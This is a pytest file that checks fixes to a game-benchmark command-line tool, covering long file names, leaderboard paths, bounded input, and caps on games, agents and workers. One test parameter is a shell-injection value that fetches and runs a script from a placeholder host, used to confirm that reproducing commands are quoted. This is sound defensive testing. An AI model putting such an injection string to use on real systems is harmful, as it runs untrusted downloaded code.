"""The command-line review of 0.18: each test names the defect it pins down.

Output names near the file-name limit (``NAME_MAX``) crashed after the work or in the checks themselves; the
leaderboard could write its page over its own result files; ``friday13 play`` read a line of any length; a
ratings file of many agents took minutes to refuse; a result's spec was printed unquoted as a shell command;
``evaluate --games`` had no upper bound and ``--workers`` named a pool it did not use; and the benchmark scripts
divided by zero, took any number of players, and crashed on a bad checkpoint or a missing Ray.
"""

from __future__ import annotations

import errno
import importlib.util
import io
import json
import os
import shlex
import shutil
from pathlib import Path
from typing import Any

import pytest

from benchmarks import bench_batched, policy_confidence, web_load
from friday13_env.benchmark import command, leaderboard, ratings
from friday13_env.benchmark.suite import get_suite
from friday13_env.cli import main
from friday13_env.core import files, options
from friday13_env.core.specs import spec_problem
from friday13_env.friday13 import play
from friday13_env.friday13.evaluation import command as evaluate_command
from friday13_env.friday13.evaluation import tournament
from tests.benchmark.helpers import friday13, made_result, small_suite, write
from tests.benchmark.test_review_0_17_scripts import no_server, refused, run_main  # noqa: F401 (no_server: a fixture)

REPOSITORY = Path(__file__).resolve().parents[2]
ZOO_POLICY = REPOSITORY / "friday13_env" / "friday13" / "zoo" / "ppo-v1.npz"


def name_max(folder: Path) -> int:
    """The longest file name ``folder``'s file system takes, in bytes."""
    try:
        return os.pathconf(folder, "PC_NAME_MAX")
    except (OSError, ValueError):
        return 255


def never(*args: object, **kwargs: object) -> Any:
    raise AssertionError("played, read or wrote before the arguments were checked")


# -- 1. output names near NAME_MAX ------------------------------------------------------------------------------


def test_defect_1_an_atomic_write_of_a_name_at_the_limit_succeeds(tmp_path: Path) -> None:
    """The temporary file was ``.NAME.XXXXXXXX.tmp``, 14 bytes longer than the output: a name within 14 bytes of the
    limit could not be written at all, after the work."""
    path = tmp_path / ("b" * (name_max(tmp_path) - 5) + ".json")
    files.atomic_write_text(path, "{}\n")
    assert path.read_text() == "{}\n"
    assert [entry.name for entry in tmp_path.iterdir()] == [path.name]  # no temporary file left


def test_defect_1_output_problem_reports_a_name_over_the_limit_instead_of_raising(tmp_path: Path) -> None:
    limit = name_max(tmp_path)
    for path in (tmp_path / ("b" * (limit + 1)), tmp_path / ("d" * (limit + 1)) / "out.json"):
        problem = files.output_problem(path)
        assert problem is not None and problem.errno == errno.ENAMETOOLONG
        assert f"over the {limit} bytes a file name may have" in str(problem.strerror)
    problem = files.output_problem(tmp_path / ("f" * (limit + 1)), directory=True)
    assert problem is not None and problem.errno == errno.ENAMETOOLONG
    fits = tmp_path / ("b" * (limit - 4))
    assert files.output_problem(fits) is None
    problem = files.output_problem(fits, suffix=".partial")  # what a benchmark writes beside it
    assert problem is not None and problem.errno == errno.ENAMETOOLONG
    assert ".partial" in str(problem.strerror)


def test_defect_1_evaluate_writes_a_json_whose_name_is_near_the_limit(tmp_path: Path) -> None:
    out = tmp_path / ("b" * (name_max(tmp_path) - 5) + ".json")
    argv = ["evaluate", "--agents", "random", "cautious", "--games", "1", "--no-progress", "--json", str(out)]
    assert friday13(argv)[0] == 0
    assert json.loads(out.read_text())["matchups"]


@pytest.mark.parametrize(
    "argv",
    [
        ["evaluate", "--agents", "random", "cautious", "--games", "1", "--json", "{long}"],
        ["evaluate", "--agents", "random", "cautious", "--games", "1", "--replays", "{long}"],
        ["replay", "{game}", "--html", "{long}"],
        ["ratings", "--agents", "random", "cautious", "majority", "--tables", "1", "--out", "{long}"],
        ["leaderboard", "--results", "{tmp}", "--out", "{long}"],
        ["leaderboard", "--results", "{tmp}", "--out", "{long}", "--check"],
        ["benchmark", "--agent", "random", "--suite", "tiny", "--out", "{long}"],
    ],
)
def test_defect_1_an_output_name_over_the_limit_is_a_usage_error_before_any_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, argv: list[str]
) -> None:
    """``path.is_dir()`` and ``exists()`` raised ENAMETOOLONG inside the checks: a traceback, not exit 2."""
    monkeypatch.setattr(evaluate_command, "evaluate", never)
    monkeypatch.setattr(command, "generate", never)
    monkeypatch.setattr(command, "run_ratings", never)
    monkeypatch.setattr(command, "prepare", never)
    monkeypatch.setattr(command, "suites", lambda: {"tiny": small_suite()})
    long = tmp_path / ("b" * (name_max(tmp_path) + 1) + ".out")
    values = {"{long}": str(long), "{tmp}": str(tmp_path / "rb"), "{game}": str(tmp_path / "game.json")}
    code, _ = friday13([values.get(arg, arg) for arg in argv])
    assert code == 2
    assert "a file name may have" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


def test_defect_1_a_benchmark_whose_partial_file_name_is_over_the_limit_is_refused_before_any_game(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """``OUT.partial`` is 8 bytes longer than ``--out``: written after the first unit, it crashed the run."""
    monkeypatch.setattr(command, "suites", lambda: {"tiny": small_suite()})
    monkeypatch.setattr(command, "prepare", never)
    out = tmp_path / ("b" * (name_max(tmp_path) - 7) + ".json")  # fits, but OUT.partial does not
    code, _ = friday13(["benchmark", "--agent", "random", "--suite", "tiny", "--no-progress", "--out", str(out)])
    assert code == 2
    error = capsys.readouterr().err
    assert "argument --out" in error and ".partial" in error and "a file name may have" in error
    assert list(tmp_path.iterdir()) == []


def test_defect_1_a_default_result_name_from_a_deep_agent_path_is_refused_before_any_game(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without ``--out`` the result is named after the spec: a checkpoint deep in folders gives a name over the
    limit, which crashed after the first unit."""
    monkeypatch.setattr(command, "suites", lambda: {"tiny": small_suite()})
    monkeypatch.setattr(command, "prepare", never)
    monkeypatch.chdir(tmp_path)
    deep = tmp_path / ("d" * 120) / ("e" * 120)
    deep.mkdir(parents=True)
    policy = deep / "policy.npz"
    shutil.copy(ZOO_POLICY, policy)
    code, _ = friday13(["benchmark", "--agent", str(policy), "--suite", "tiny", "--no-progress"])
    assert code == 2
    error = capsys.readouterr().err
    assert "argument --out" in error and "a file name may have" in error
    assert not (tmp_path / "results").exists()


def test_defect_1_web_load_refuses_a_json_name_over_the_limit_before_starting_the_server(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(web_load, "running", never)
    long = tmp_path / ("b" * (name_max(tmp_path) + 1))
    error = refused(web_load, ["--json", str(long)], monkeypatch, capsys)
    assert "argument --json" in error and "a file name may have" in error


# -- 2. the leaderboard page inside --results --------------------------------------------------------------------


@pytest.mark.parametrize(
    "inside", ["card-4p-v1/random.json", "exploitability.json", "ratings.json", "card-4p-v1/new.JSON"]
)
@pytest.mark.parametrize("check", [[], ["--check"]])
def test_defect_2_a_leaderboard_page_inside_the_results_folder_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, inside: str, check: list[str]
) -> None:
    """``--out rb/card-4p-v1/random.json`` with ``--results rb`` wrote Markdown over a result file."""
    monkeypatch.setattr(command, "generate", never)
    results = tmp_path / "rb"
    target = results / inside
    target.parent.mkdir(parents=True)
    target.write_text('{"kept": true}\n')
    code, _ = friday13(["leaderboard", "--results", str(results), "--out", str(target), *check])
    assert code == 2
    assert f"--out {target} is inside {results}, the folder --results reads" in capsys.readouterr().err
    assert target.read_text() == '{"kept": true}\n'


def test_defect_2_a_page_of_its_own_name_in_the_results_folder_is_still_written(tmp_path: Path) -> None:
    """The leaderboard reads only ``.json`` files: a page named otherwise takes the place of none of them."""
    pytest.importorskip("scipy")
    results = tmp_path / "results"
    write(results, made_result(get_suite("card-4p-quick"), "random", seed=1))
    page = results / "leaderboard.md"
    assert friday13(["leaderboard", "--results", str(results), "--out", str(page)])[0] == 0
    assert page.read_text().startswith("# Leaderboard")
    assert friday13(["leaderboard", "--results", str(results), "--out", str(page), "--check"])[0] == 0


# -- 3. friday13 play reads bounded lines ------------------------------------------------------------------------


class Recording(io.StringIO):
    """A text stream that records the size asked of each ``readline`` and refuses an unbounded one."""

    def __init__(self, text: str) -> None:
        super().__init__(text)
        self.sizes: list[int] = []

    def readline(self, size: int | None = -1, /) -> str:
        assert size is not None and size > 0, "readline without a limit"
        self.sizes.append(size)
        return super().readline(size)


def test_defect_3_play_answers_an_over_long_line_and_reads_on() -> None:
    """``friday13 play < /dev/zero`` read one line with no limit until the memory ran out."""
    stream = Recording("x" * (play.MAX_LINE * 3 + 5) + "\nhelp\n" + "y" * play.MAX_LINE + "\nquit\n")
    output = io.StringIO()
    assert main(["play", "--seed", "1"], stream, output) == 0
    printed = output.getvalue()
    assert printed.count("line too long") == 1  # a line of exactly MAX_LINE characters is read, and refused as a move
    assert "Legal moves:" in printed and "You left the game" in printed
    assert stream.sizes and max(stream.sizes) <= play.MAX_LINE + 1


# -- 5. ratings files of many agents ------------------------------------------------------------------------------


def test_defect_5_a_ratings_file_of_too_many_agents_is_refused_before_any_agent_is_checked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """780k agents and 500 tables took 100 s before failing: every agent was checked and ``set(agents)`` was built
    again for every table."""
    monkeypatch.setattr(ratings, "spec_problem", never)
    agents = [f"a{index}" for index in range(ratings.MAX_AGENTS + 1)]
    data = {"format": ratings.RATINGS_FORMAT, "format_version": 1, "agents": agents, "games": [], "tables": 0}
    path = tmp_path / "ratings.json"
    path.write_text(json.dumps(data))
    with pytest.raises(ValueError, match=f"at most {ratings.MAX_AGENTS:,} agents"):
        ratings.read_ratings(path)


def test_defect_5_a_ratings_run_of_too_many_agents_is_refused_before_any_agent_is_built() -> None:
    """A run never writes a file its reader would refuse."""
    with pytest.raises(ValueError, match=f"at most {ratings.MAX_AGENTS:,} agents"):
        ratings.check_ratings([f"missing-{index}" for index in range(ratings.MAX_AGENTS + 1)])


# -- 6. the leaderboard's commands --------------------------------------------------------------------------------


@pytest.mark.parametrize("spec", ["a: b=1", "search:budget=016", "search:greedy=True"])
def test_defect_6_a_result_whose_spec_is_no_agent_spec_is_refused(quick_results: Path, spec: str) -> None:
    """The spec of a result was printed as a shell command whatever it held: options a run would have recorded
    otherwise (``search:budget=16``) are refused. Text that reads as no options may be a checkpoint's path (a file
    ``mypol:best``), so it is shown, quoted for the shell (below)."""
    path = write(quick_results, made_result(get_suite("card-4p-quick"), spec, seed=7))
    with pytest.raises(ValueError, match="agent spec") as refusal:
        leaderboard.generate(quick_results)
    assert str(path) in str(refusal.value)


@pytest.mark.parametrize(
    "spec", ["my agents/x; echo hi.npz", "x; curl http://example.invalid/a -o /tmp/a ; sh /tmp/a; echo"]
)
def test_defect_6_the_reproducing_command_quotes_the_spec(quick_results: Path, spec: str) -> None:
    """A checkpoint path may hold a space, a semicolon or a colon: the command to copy, read as the shell reads it,
    runs that agent and nothing else."""
    write(quick_results, made_result(get_suite("card-4p-quick"), spec, seed=7))
    page = leaderboard.generate(quick_results)
    commands = [shlex.split(line.split("`")[-2]) for line in page.splitlines() if "--suite card-4p-quick`" in line]
    assert ["friday13", "benchmark", "--agent", spec, "--suite", "card-4p-quick"] in commands
    assert "`friday13 benchmark --agent random --suite card-4p-quick`" in page  # nothing to quote: as before
    assert "`friday13 benchmark --agent random --suite card-4p-quick`" in page  # nothing to quote: as before


# -- 7. and 8. friday13 evaluate's --games and --workers -----------------------------------------------------------


@pytest.mark.parametrize("games", [str(tournament.MAX_GAMES + 1), "99999999999999999999"])
def test_defect_7_evaluate_refuses_more_games_than_its_cap(
    games: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(evaluate_command, "evaluate", never)
    code, _ = friday13(["evaluate", "--agents", "random", "cautious", "--games", games])
    assert code == 2
    assert f"argument --games: must be a positive integer of at most {tournament.MAX_GAMES:,}, got {games}" in (
        capsys.readouterr().err
    )


def test_defect_7_the_games_cap_holds_for_the_api() -> None:
    with pytest.raises(ValueError, match=f"at most {tournament.MAX_GAMES:,}"):
        tournament.evaluate(evaluate_command.matchups_from(_args("--agents", "random", "cautious"), _parser()), 10**7)


def _parser() -> Any:
    return evaluate_command.build_parser("friday13 evaluate")


def _args(*argv: str) -> Any:
    return _parser().parse_args(list(argv))


def test_defect_8_evaluate_reports_the_pool_it_really_uses(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """4 games are one deal, one chunk: one process plays, though 5 were asked and 8 CPUs are there."""
    monkeypatch.setattr(options, "available_cpus", lambda: 8)  # what pool_size reads
    code, printed = friday13(
        ["evaluate", "--focus", "cautious", "--vs", "random", "--games", "4", "--workers", "5", "--no-progress"]
    )
    assert code == 0
    error = capsys.readouterr().err
    assert "--workers 5: capped at 1" in error and "1 unit of work" in error
    assert "on 1 worker(s)" in printed


# -- 9. to 12. the benchmark scripts ------------------------------------------------------------------------------


def test_defect_9_bench_batched_prints_na_for_a_reference_that_measured_nothing(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A slice too short for one step gave a rate of 0, and the ratio divided by it."""
    monkeypatch.setattr(bench_batched, "engine_steps", lambda *args: (0, 0.001))
    small = ["--seconds", "0.001", "--repeats", "1", "--batch-sizes", "1", "--num-envs", "1"]
    run_main(bench_batched, small, monkeypatch)
    assert "n/a" in capsys.readouterr().out


@pytest.mark.usefixtures("no_server")
@pytest.mark.parametrize("sessions", ["100000000", str(web_load.MAX_SESSIONS + 1), "0", "1.5"])
def test_defect_10_web_load_bounds_the_sessions_before_starting_the_server(
    sessions: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "argument --sessions: " in refused(web_load, ["--sessions", sessions], monkeypatch, capsys)


@pytest.mark.parametrize("checkpoint", ["nonexist.npz", "/dev/zero", "{json}", "{folder}"])
def test_defect_11_policy_confidence_refuses_a_bad_checkpoint_as_a_usage_error(
    checkpoint: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(policy_confidence, "positions", never)
    (tmp_path / "policy.json").write_text("{}")
    given = checkpoint.format(json=tmp_path / "policy.json", folder=tmp_path)
    assert "error: argument checkpoint: " in refused(policy_confidence, [given], monkeypatch, capsys)


def test_defect_11_policy_confidence_takes_a_zoo_name_and_refuses_a_repeated_temperature(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    read = policy_confidence.read_friday13_policy
    monkeypatch.setattr(policy_confidence, "read_friday13_policy", never)
    error = refused(policy_confidence, ["ppo-v4", "--temperatures", "1", "0.5", "1"], monkeypatch, capsys)
    assert "argument --temperatures: 1.0 is listed twice" in error
    monkeypatch.setattr(policy_confidence, "read_friday13_policy", read)
    run_main(policy_confidence, ["ppo-v4", "--positions", "3", "--temperatures", "1"], monkeypatch)
    assert "temperature 1: likeliest legal move" in capsys.readouterr().out


def test_defect_12_bench_rllib_has_help_without_ray_and_names_the_extra(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """``import ray`` at the top of the module: ``--help`` was a ModuleNotFoundError traceback."""
    from benchmarks import bench_rllib

    with pytest.raises(SystemExit) as stopped:
        run_main(bench_rllib, ["--help"], monkeypatch)
    assert stopped.value.code == 0
    assert "--tables" in capsys.readouterr().out
    if importlib.util.find_spec("ray") is None:
        error = refused(bench_rllib, ["--seconds", "1"], monkeypatch, capsys)
        assert 'needs Ray RLlib (the rllib extra): pip install "friday13-env[rllib]"' in error


# -- 15. the leaderboard names its results folder -----------------------------------------------------------------


def test_defect_15_the_page_names_the_results_folder_it_was_made_from(
    quick_results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page always said "from results/benchmark/", whatever ``--results`` was; it names the folder by its path
    from the page."""
    monkeypatch.chdir(tmp_path)
    code, printed = friday13(["leaderboard", "--results", "results", "--out", "pages/board.md"])
    assert code == 0, printed
    page = (tmp_path / "pages" / "board.md").read_text()
    assert "Generated by `friday13 leaderboard` from ../results/: do not edit by hand." in page
    assert "under [`../results/`](../results/), made by" in page
    assert "results/benchmark" not in page
    assert friday13(["leaderboard", "--results", "results", "--out", "pages/board.md", "--check"])[0] == 0


def test_defect_15_the_shipped_page_still_checks_from_the_repository(monkeypatch: pytest.MonkeyPatch) -> None:
    """``friday13 leaderboard --check`` with its defaults, as CI runs it from the repository."""
    pytest.importorskip("scipy")
    pytest.importorskip("openskill")
    monkeypatch.chdir(REPOSITORY)
    code, printed = friday13(["leaderboard", "--check"])
    assert code == 0, printed


# -- regressions of the changes above, found by their review ---------------------------------------------------


def test_defect_15_the_check_does_not_depend_on_the_working_folder_or_the_spelling_of_the_paths(
    quick_results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page named ``--results`` as typed: checked with an absolute path, or from another folder, it differed."""
    monkeypatch.chdir(tmp_path)
    assert friday13(["leaderboard", "--results", "results", "--out", "pages/board.md"])[0] == 0
    page = tmp_path / "pages" / "board.md"
    spellings = [
        ["--results", str(quick_results), "--out", str(page)],
        ["--results", "./results/", "--out", "pages/../pages/board.md"],
    ]
    for spelling in spellings:
        code, printed = friday13(["leaderboard", "--check", *spelling])
        assert code == 0, printed
    monkeypatch.chdir(tmp_path / "pages")
    code, printed = friday13(["leaderboard", "--check", "--results", "../results", "--out", "board.md"])
    assert code == 0, printed
    assert leaderboard.generate(quick_results, page) == page.read_text()


def test_defect_15_the_shipped_page_checks_with_an_absolute_path_and_from_docs(monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("scipy")
    pytest.importorskip("openskill")
    results = REPOSITORY / "results" / "benchmark"
    monkeypatch.chdir(REPOSITORY)
    code, printed = friday13(["leaderboard", "--check", "--results", str(results)])
    assert code == 0, printed
    monkeypatch.chdir(REPOSITORY / "docs")
    code, printed = friday13(["leaderboard", "--check", "--results", "../results/benchmark", "--out", "leaderboard.md"])
    assert code == 0, printed


CHECKPOINT_WITH_A_COLON = "checkpoints/mypol:best.npz"
"""A checkpoint path holding a ``:`` (docs/agents.md: any existing file is a checkpoint, whatever its name)."""


@pytest.mark.parametrize("file_here", [False, True], ids=["absent", "present"])
def test_defect_6_a_result_of_a_checkpoint_path_holding_a_colon_is_shown_whether_or_not_the_file_is_here(
    quick_results: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, file_here: bool
) -> None:
    """The recorded spec was parsed again in the working folder: where the file was absent, its text after the
    ``:`` was read as options and the result refused ("bad option 'best.npz'")."""
    working = tmp_path / "elsewhere"
    (working / "checkpoints").mkdir(parents=True)
    if file_here:
        (working / CHECKPOINT_WITH_A_COLON).write_bytes(b"")
    monkeypatch.chdir(working)
    write(quick_results, made_result(get_suite("card-4p-quick"), CHECKPOINT_WITH_A_COLON, seed=7))
    page = leaderboard.generate(quick_results)
    assert f"`friday13 benchmark --agent {CHECKPOINT_WITH_A_COLON} --suite card-4p-quick`" in page


@pytest.mark.parametrize("target", [CHECKPOINT_WITH_A_COLON, "search:budget=016", "search: budget=16"])
def test_defect_6_whether_a_spec_is_refused_does_not_depend_on_the_files_of_the_working_folder(
    target: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:

    monkeypatch.chdir(tmp_path)
    absent = spec_problem(target)
    (tmp_path / target).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / target).write_bytes(b"")
    assert spec_problem(target) == absent
    assert (absent is None) == (target == CHECKPOINT_WITH_A_COLON)
